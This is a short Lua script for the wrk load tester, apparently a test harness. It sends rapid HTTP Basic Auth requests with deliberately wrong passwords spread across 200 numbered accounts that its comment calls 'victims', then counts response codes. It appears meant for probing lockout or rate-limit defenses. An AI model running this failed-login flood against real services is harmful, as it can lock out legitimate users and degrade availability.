-- wrk's part in the attack: each request another wrong password, for one of the victims.

local alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

local function base64(text)
  local encoded = text:gsub("..?.?", function(octets)
    local a, b, c = octets:byte(1, 3)
    local bits = a * 65536 + (b or 0) * 256 + (c or 0)
    local characters = ""
    for shift = 3, 4 - #octets - 1, -1 do
      local place = math.floor(bits / 64 ^ shift) % 64
      characters = characters .. alphabet:sub(place + 1, place + 1)
    end
    return characters .. ("="):rep(3 - #octets)
  end)
  return encoded
end

local workers = {}
local number = 0
answers = {}

function setup(worker)
  table.insert(workers, worker)
end

function request()
  number = number + 1
  local guess = ("user%03d:guess%d"):format(number % 200, number)
  return wrk.format(nil, nil, { Authorization = "Basic " .. base64(guess) })
end

function response(status)
  answers[status] = (answers[status] or 0) + 1
end

function done()
  for _, worker in ipairs(workers) do
    for status, count in pairs(worker:get("answers")) do
      print(("answers %d %d"):format(status, count))
    end
  end
end
